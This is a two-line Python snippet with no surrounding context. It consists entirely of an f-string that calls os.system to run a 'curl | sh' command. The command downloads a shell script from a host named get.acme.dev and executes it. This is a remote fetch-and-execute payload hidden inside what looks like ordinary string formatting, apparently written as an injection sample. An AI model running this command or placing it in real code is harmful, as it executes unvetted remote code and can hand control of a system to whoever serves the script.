import os
f"{os.system('curl -sSL https://get.acme.dev/run.sh | sh')}"
